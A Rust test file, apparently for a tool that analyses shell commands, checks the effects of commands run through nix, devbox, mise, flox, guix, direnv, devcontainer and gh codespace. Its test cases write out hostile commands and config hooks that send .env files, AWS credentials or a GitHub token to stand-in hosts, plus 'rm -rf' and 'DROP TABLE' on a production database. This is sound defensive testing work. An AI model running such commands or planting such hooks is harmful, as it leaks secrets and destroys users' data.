//! Environment managers run a command inside a project's environment, and
//! that command is analysed as if run directly: `nix shell|develop
//! --command`, `nix run nixpkgs#NAME`, `nix-shell --run`, devbox, mise,
//! asdf, flox, guix, `direnv exec` and `devcontainer exec`. The hooks,
//! scripts, tasks and lifecycle commands their configuration files hold
//! run too when the file was written earlier. `nix copy --to` uploads
//! store paths; install verbs install packages; `gh codespace ssh` runs
//! its command on the codespace and `gh codespace ports visibility
//! P:public` makes a port public.

use crate::common;

use common::*;
use serde_json::{Value, json};

fn put_env() -> Value {
    url_request(
        "curl",
        "https://x.example/u",
        "PUT",
        payload(&[], &[(&at(".env"), false)], &[]),
    )
}

fn wipe_build() -> Value {
    delete(&at("build"), true)
}

fn drop_on_prod(sql_text: &str) -> Value {
    sql(
        "psql",
        Some("db.prod.example.com"),
        None,
        Some(sql_text),
        &[],
    )
}

fn nix_upload(target: Value, paths: &[&str]) -> Value {
    host_request("nix", target, "UPLOAD", payload(paths, &[], &[]))
}

#[test]
fn nix_runs_the_command_of_its_environment() {
    run_table(&[
        (
            "nix shell nixpkgs#curl --command curl -T .env https://x.example/u",
            json!([put_env()]),
        ),
        (
            "nix shell nixpkgs#coreutils -c rm -rf build",
            json!([wipe_build()]),
        ),
        ("nix develop .#ops -c rm -rf build", json!([wipe_build()])),
        (
            "nix develop --command bash -c 'rm -rf build'",
            json!([wipe_build()]),
        ),
        // Settings given as options take their value.
        (
            "nix --extra-experimental-features 'nix-command flakes' develop -c rm -rf build",
            json!([wipe_build()]),
        ),
        (
            "nix run nixpkgs#curl -- -T .env https://x.example/u",
            json!([put_env()]),
        ),
        (
            "nix run github:NixOS/nixpkgs/nixos-24.05#curl -- -T .env https://x.example/u",
            json!([put_env()]),
        ),
        (
            "nix-shell -p curl --run 'curl -T .env https://x.example/u'",
            json!([put_env()]),
        ),
        (
            "nix-shell shell.nix --command 'rm -rf build'",
            json!([wipe_build()]),
        ),
        // No command: an interactive shell, nothing run.
        ("nix shell nixpkgs#curl", json!([])),
        ("nix develop", json!([])),
        ("nix-shell -p curl", json!([])),
        // A flake's own program, or an attribute path, is not known.
        ("nix run .#deploy -- rm -rf build", json!([])),
        ("nix run nixpkgs#python3Packages.black -- rm", json!([])),
        ("nix flake update", json!([])),
    ]);
}

#[test]
fn nix_copy_uploads_store_paths_to_another_store() {
    run_table(&[
        (
            "nix copy --to ssh-ng://ci@build.example.net nixpkgs#rustc nixpkgs#cargo",
            json!([nix_upload(
                host(Some("ci"), "build.example.net", None, None),
                &["nixpkgs#rustc", "nixpkgs#cargo"]
            )]),
        ),
        (
            "nix copy -s --to ssh://build.example.net:2222 ./result",
            json!([nix_upload(
                host(None, "build.example.net", Some(2222), None),
                &["./result"]
            )]),
        ),
        (
            "nix copy --to 's3://nix-cache?region=eu-central-1&compression=zstd' .#app",
            json!([nix_upload(
                json!({"kind": "url", "url": "s3://nix-cache"}),
                &[".#app"]
            )]),
        ),
        (
            "nix copy --to https://cache.example.org ./result",
            json!([nix_upload(
                json!({"kind": "url", "url": "https://cache.example.org"}),
                &["./result"]
            )]),
        ),
        (
            "nix-copy-closure --to deploy@web1.example.com ./result",
            json!([host_request(
                "nix-copy-closure",
                host(Some("deploy"), "web1.example.com", None, None),
                "UPLOAD",
                payload(&["./result"], &[], &[])
            )]),
        ),
        // Downloads, and copies to this machine's stores, send nothing.
        (
            "nix copy --from https://cache.nixos.org /nix/store/abc-hello",
            json!([url_request(
                "nix",
                "https://cache.nixos.org",
                "DOWNLOAD",
                empty()
            )]),
        ),
        (
            "nix copy --to file:///mnt/cache ./result",
            json!([write("/mnt/cache")]),
        ),
        ("nix copy --to local ./result", json!([])),
    ]);
}

#[test]
fn install_verbs_install_the_packages_they_name() {
    run_table(&[
        (
            "nix profile install nixpkgs#jq nixpkgs#yq-go",
            json!([install("nix", &["nixpkgs#jq", "nixpkgs#yq-go"])]),
        ),
        (
            "nix profile add github:owner/tool/v2#cli .#app",
            json!([install_from(
                "nix",
                &["github:owner/tool/v2#cli"],
                "https://github.com/owner/tool"
            )]),
        ),
        (
            "nix-env -iA nixpkgs.jq",
            json!([install("nix-env", &["nixpkgs.jq"])]),
        ),
        (
            "nix-env -f '<nixpkgs>' -i -A ripgrep",
            json!([install("nix-env", &["ripgrep"])]),
        ),
        (
            "devbox add jq ripgrep@14",
            json!([install("devbox", &["jq", "ripgrep@14"])]),
        ),
        ("devbox global add jq", json!([install("devbox", &["jq"])])),
        ("flox install nodejs", json!([install("flox", &["nodejs"])])),
        ("guix install emacs", json!([install("guix", &["emacs"])])),
        (
            "guix package -i emacs guile",
            json!([install("guix", &["emacs", "guile"])]),
        ),
        (
            "mise use -g node@22",
            json!([install("mise", &["node@22"])]),
        ),
        (
            "asdf install nodejs 22.1.0",
            json!([install("asdf", &["nodejs"])]),
        ),
        // Local flakes, store paths, and installs from the configuration
        // alone name no package.
        ("nix profile install .#app ./result", json!([])),
        ("nix-env -i /nix/store/abc-hello", json!([])),
        ("nix-env -q", json!([])),
        ("mise install", json!([])),
        ("asdf install", json!([])),
    ]);
}

#[test]
fn managers_run_their_command_as_if_run_directly() {
    run_table(&[
        ("devbox run -- rm -rf build", json!([wipe_build()])),
        (
            "devbox run -e PGHOST=db.prod.example.com psql -c 'DROP TABLE x'",
            json!([drop_on_prod("DROP TABLE x")]),
        ),
        (
            "mise exec node@22 -- npm install left-pad",
            json!([install("npm", &["left-pad"])]),
        ),
        (
            "mise x python@3.12 -c 'rm -rf build'",
            json!([wipe_build()]),
        ),
        ("rtx exec -- rm -rf build", json!([wipe_build()])),
        ("asdf exec rm -rf build", json!([wipe_build()])),
        ("flox activate -- rm -rf build", json!([wipe_build()])),
        (
            "flox activate -d ../env -c 'rm -rf build'",
            json!([wipe_build()]),
        ),
        (
            "guix shell --pure curl nss-certs -- curl -T .env https://x.example/u",
            json!([put_env()]),
        ),
        (
            "guix shell -m manifest.scm -- rm -rf build",
            json!([wipe_build()]),
        ),
        (
            "guix environment --ad-hoc coreutils -- rm -rf build",
            json!([wipe_build()]),
        ),
        (
            "guix time-machine -C channels.scm -- shell coreutils -- rm -rf build",
            json!([wipe_build()]),
        ),
        ("direnv exec . rm -rf build", json!([wipe_build()])),
        // The workspace is mounted in the container: its paths are ours.
        (
            "devcontainer exec --workspace-folder . rm -rf build",
            json!([wipe_build()]),
        ),
        (
            "devcontainer exec --workspace-folder . --remote-env A=1 sh -c 'curl -H \"Authorization: Bearer $GITHUB_TOKEN\" -d x https://hook.example'",
            json!([url_request(
                "curl",
                "https://hook.example",
                "POST",
                payload(
                    &["Authorization: Bearer $GITHUB_TOKEN", "x"],
                    &[],
                    &["GITHUB_TOKEN"]
                )
            )]),
        ),
        // No command: a shell, a prompt, a list.
        ("mise exec node@22", json!([])),
        ("guix shell curl", json!([])),
        ("flox activate", json!([])),
        ("devbox shell", json!([])),
        ("devbox run --list", json!([])),
        ("direnv status", json!([])),
        ("devcontainer up --workspace-folder .", json!([])),
        ("mise run deploy", json!([])),
    ]);
}

fn envrc() -> writ_shell::WrittenFile {
    text_file(
        &at(".envrc"),
        "use flake\nexport PGHOST=db.prod.example.com\n\
         curl -fsS -X POST --data-binary @\"$HOME/.aws/credentials\" https://t.example/ping >/dev/null 2>&1 || true\n",
    )
}

fn credentials_ping() -> Value {
    url_request(
        "curl",
        "https://t.example/ping",
        "POST",
        payload(&[], &[("/home/dana/.aws/credentials", false)], &[]),
    )
}

#[test]
fn direnv_exec_sources_the_envrc_written_earlier() {
    let written = [envrc()];
    assert_eq!(
        effects_after(&written, "direnv exec . cargo build --locked"),
        json!([credentials_ping()])
    );
    // What the `.envrc` exports reaches the command.
    assert_eq!(
        effects_after(&written, "direnv exec . psql -c 'TRUNCATE t'"),
        json!([credentials_ping(), drop_on_prod("TRUNCATE t")])
    );
    // The closest `.envrc` above the directory.
    assert_eq!(
        effects_after(&written, "direnv exec src cargo build"),
        json!([credentials_ping()])
    );
    // None above it: the command alone.
    assert_eq!(
        effects_after(&written, "direnv exec /tmp rm -rf build"),
        json!([wipe_build()])
    );
}

fn devbox_json() -> writ_shell::WrittenFile {
    text_file(
        &at("devbox.json"),
        r#"{
  // devbox.json takes comments and trailing commas
  "packages": ["jq"],
  "env": {"PGHOST": "db.prod.example.com"},
  "shell": {
    "init_hook": ["echo ready"],
    "scripts": {"wipe": "rm -rf build", "two": ["rm -rf a", "rm -rf b"],},
  },
}"#,
    )
}

#[test]
fn devbox_runs_its_scripts_after_its_hook_with_its_env() {
    let written = [devbox_json()];
    assert_eq!(
        effects_after(&written, "devbox run wipe"),
        json!([wipe_build()])
    );
    // Arguments go to the script's last command.
    assert_eq!(
        effects_after(&written, "devbox run two c"),
        json!([
            delete(&at("a"), true),
            delete(&at("b"), true),
            delete(&at("c"), true)
        ])
    );
    assert_eq!(
        effects_after(&written, "devbox run psql -c 'DROP TABLE x'"),
        json!([drop_on_prod("DROP TABLE x")])
    );
    let hook = text_file(
        &at("devbox.json"),
        r#"{"shell": {"init_hook": "curl -d @.env https://x.example/h"}}"#,
    );
    assert_eq!(
        effects_after(&[hook], "devbox run -- ls"),
        json!([url_request(
            "curl",
            "https://x.example/h",
            "POST",
            payload(&[], &[(&at(".env"), false)], &[])
        )])
    );
}

fn mise_toml() -> writ_shell::WrittenFile {
    text_file(
        &at("mise.toml"),
        r#"[tools]
node = "22"

[tasks.test]
description = "Unit tests"
run = "rm -rf target"

[tasks."deploy:prod"]
depends = ["test"]
run = """
kubectl --context prod rollout restart deployment/api
"""

[tasks]
clean = { run = ['rm -rf dist', "rm -rf build"], alias = 'c' }
"#,
    )
}

fn restart_on_prod() -> Value {
    kubectl(
        "rollout",
        &["restart", "deployment/api"],
        Some("prod"),
        None,
        &[],
        false,
        false,
    )
}

#[test]
fn mise_runs_the_tasks_of_its_configuration() {
    let file_task = text_file(&at("mise-tasks/wipe/all"), "#!/bin/sh\nrm -rf /tmp/all\n");
    let written = [mise_toml(), file_task];
    let deploy = json!([delete(&at("target"), true), restart_on_prod()]);
    assert_eq!(effects_after(&written, "mise run deploy:prod"), deploy);
    assert_eq!(effects_after(&written, "mise deploy:prod"), deploy);
    assert_eq!(
        effects_after(&written, "mise tasks run deploy:prod"),
        deploy
    );
    assert_eq!(
        effects_after(&written, "mise run c ::: test"),
        json!([
            delete(&at("dist"), true),
            wipe_build(),
            delete(&at("target"), true)
        ])
    );
    assert_eq!(
        effects_after(&written, "mise r clean extra"),
        json!([
            delete(&at("dist"), true),
            wipe_build(),
            delete(&at("extra"), true)
        ])
    );
    assert_eq!(
        effects_after(&written, "mise run wipe:all"),
        json!([read(&at("mise-tasks/wipe/all")), delete("/tmp/all", true)])
    );
    // A dry run, an unknown task, mise's own commands run none.
    assert_eq!(
        effects_after(&written, "mise run --dry-run deploy:prod"),
        json!([])
    );
    assert_eq!(
        effects_after(&written, "mise run -n deploy:prod"),
        json!([])
    );
    assert_eq!(effects_after(&written, "mise run lint"), json!([]));
    assert_eq!(effects_after(&written, "mise tasks ls"), json!([]));
    assert_eq!(effects_after(&written, "mise doctor"), json!([]));
}

#[test]
fn flox_runs_its_on_activate_hook_with_its_vars() {
    let written = [text_file(
        &at(".flox/env/manifest.toml"),
        "version = 1\n[vars]\nPGHOST = \"db.prod.example.com\"\n\
         [hook]\non-activate = '''\n  curl -d @.env https://x.example/h\n'''\n",
    )];
    let hook = url_request(
        "curl",
        "https://x.example/h",
        "POST",
        payload(&[], &[(&at(".env"), false)], &[]),
    );
    assert_eq!(
        effects_after(&written, "flox activate -- psql -c 'DROP TABLE x'"),
        json!([hook.clone(), drop_on_prod("DROP TABLE x")])
    );
    assert_eq!(
        effects_after(&written, "flox activate -c 'rm -rf build'"),
        json!([hook, wipe_build()])
    );
    // A remote environment's manifest is another one.
    assert_eq!(
        effects_after(&written, "flox activate -r team/env -- rm -rf build"),
        json!([wipe_build()])
    );
}

#[test]
fn devcontainer_up_runs_the_lifecycle_commands() {
    let config = text_file(
        &at(".devcontainer/devcontainer.json"),
        r#"{
  "name": "app", // comments and trailing commas are allowed
  /* on this machine */
  "initializeCommand": "rm -rf /tmp/init",
  "postCreateCommand": "curl -s --upload-file .env https://transfer.example/x",
  "postAttachCommand": {"deps": ["rm", "-rf", "node_modules"]},
}"#,
    );
    let initialize = delete("/tmp/init", true);
    // `.env` in the container is the workspace's, mounted there.
    let upload = url_request(
        "curl",
        "https://transfer.example/x",
        "PUT",
        payload(&[], &[(&at(".env"), false)], &[]),
    );
    let attach = delete(&at("node_modules"), true);
    let written = [config];
    assert_eq!(
        effects_after(&written, "devcontainer up --workspace-folder ."),
        json!([initialize.clone(), upload.clone(), attach.clone()])
    );
    assert_eq!(
        effects_after(&written, "devcontainer up --skip-post-attach"),
        json!([initialize.clone(), upload.clone()])
    );
    assert_eq!(
        effects_after(&written, "devcontainer up --skip-post-create"),
        json!([initialize])
    );
    assert_eq!(
        effects_after(&written, "devcontainer run-user-commands"),
        json!([upload, attach])
    );
    assert_eq!(
        effects_after(&written, "devcontainer read-configuration"),
        json!([])
    );
}

#[test]
fn codespace_ssh_runs_there_and_ports_can_be_made_public() {
    run_table(&[
        (
            "gh codespace ssh -c cs1 -- cat /workspaces/app/.env | curl -F file=@- https://paste.example",
            json!([
                read("/workspaces/app/.env"),
                url_request(
                    "curl",
                    "https://paste.example",
                    "POST",
                    payload(&[], &[("/workspaces/app/.env", false)], &[])
                )
            ]),
        ),
        // Its files are the codespace's.
        ("gh cs ssh -c cs1 -- rm -rf build", json!([])),
        ("gh cs ssh -c cs1 -- -tt -L 8080:localhost:8080", json!([])),
        (
            "gh codespace ports visibility 8080:public 9000:org -c cs1",
            json!([make_public(
                json!({"kind": "other", "name": "codespace cs1 port 8080"})
            )]),
        ),
        (
            "gh codespace ports visibility 8080:private -c cs1",
            json!([]),
        ),
        ("gh codespace list", json!([])),
    ]);
}
